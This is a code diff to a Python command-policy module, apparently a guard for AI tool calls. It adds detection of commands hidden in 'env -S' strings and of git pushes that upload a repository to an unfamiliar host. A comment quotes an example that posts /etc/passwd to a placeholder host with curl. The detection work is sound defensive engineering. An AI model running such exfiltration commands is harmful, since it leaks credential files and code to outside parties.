@@ -20,10 +20,12 @@ from mcpwall.policy._calls_net import (
     LOOKUP,
     REMOTE,
     SOCKET,
+    destination,
     http_command,
     lookup_command,
     remote_command,
     socket_command,
+    url_host,
 )
 from mcpwall.policy._shell import SHELLS, program_start, simple_commands
 
@@ -101,6 +103,11 @@ def _command_facts(words: list[str], out: list[Fact], depth: int = 0) -> None:
             out.append((SINKS, f"socket {m.group(1).lower()}:{m.group(2)}"))
     words = redirections(words, out)
     start = program_start(words)
+    if 0 < start < len(words) and depth < 4 and " " in words[start] and _split_string(words[start - 1]):
+        # `env -S 'curl -d @/etc/passwd https://x'`: env splits the string into the command it runs
+        for inner in simple_commands(words[start]):
+            _command_facts(inner, out, depth + 1)
+        return
     if start >= len(words):
         if words and basename(words[0]) == "env":  # `env`, `env -0`: the whole environment
             out.append((PROGRAMS, " ".join(["env", *words[1:]])))
@@ -124,9 +131,47 @@ def _command_facts(words: list[str], out: list[Fact], depth: int = 0) -> None:
         remote_command(program, args, out)
     elif program in LOOKUP:
         lookup_command(args, out)
+    elif program == "git":
+        _git_push(args, {}, out)
     elif program not in SHELLS:
         file_operands(program, args, out)
     _env_reads(program, args, out)
+
+
+def _split_string(option: str) -> bool:
+    return option in ("-S", "--split-string") or option.startswith("--split-string=")
+
+
+def _git_push(args: list[str], remotes: dict[str, str], out: list[Fact]) -> None:
+    """A push to a URL (`git push https://x/y.git HEAD`) or to a remote the same line added uploads the
+    repository to that host: an upload sink, as `scp` to it is; a push to a remote the repository already has
+    (`git push origin main`) names no host here."""
+    if not args or args[0] != "push":
+        return
+    operand = next((a for a in args[1:] if not a.startswith("-")), None)
+    if operand is None:
+        return
+    target = remotes.get(operand) or destination(operand)
+    if target is not None and ("://" in target or "@" in operand or ":" in operand):
+        host = url_host(target)
+        out.append((HOSTS, host))
+        out.append((SINKS, f"upload {host}"))
+
+
+def _git_remotes(commands: list[list[str]], out: list[Fact]) -> None:
+    """`git remote add NAME URL && git push NAME`: the push goes to the URL the line named."""
+    remotes: dict[str, str] = {}
+    for words in commands:
+        start = program_start(words)
+        if start >= len(words) or basename(words[start]) != "git":
+            continue
+        args = words[start + 1 :]
+        if len(args) >= 4 and args[0] == "remote" and args[1] in ("add", "set-url"):
+            operands = [a for a in args[2:] if not a.startswith("-")]
+            if len(operands) >= 2:
+                remotes[operands[0]] = operands[1]
+        elif remotes and args and args[0] == "push":
+            _git_push(args, remotes, out)
 
 
 #: Names a line gives a value itself (`V=...`, `export V=`, `read V`, `printf -v V`, `for V in`).
@@ -171,6 +216,8 @@ def command_facts(text: str) -> list[Fact]:
             if then and basename(then[0]) in _FILTERS and any(not w.startswith("-") for w in then[1:]):
                 out[start:] = [(k, f"{t} | {' '.join(then)}") if k == PROGRAMS and t.split(" ", 1)[0] in _LISTINGS
                                else (k, t) for k, t in out[start:]]
+    if len(commands) > 1 and "git" in text and "remote" in text:
+        _git_remotes(commands, out)
     if "=" in text or "read" in text or "for" in text:
         own = _own_variables(text)
         if own:
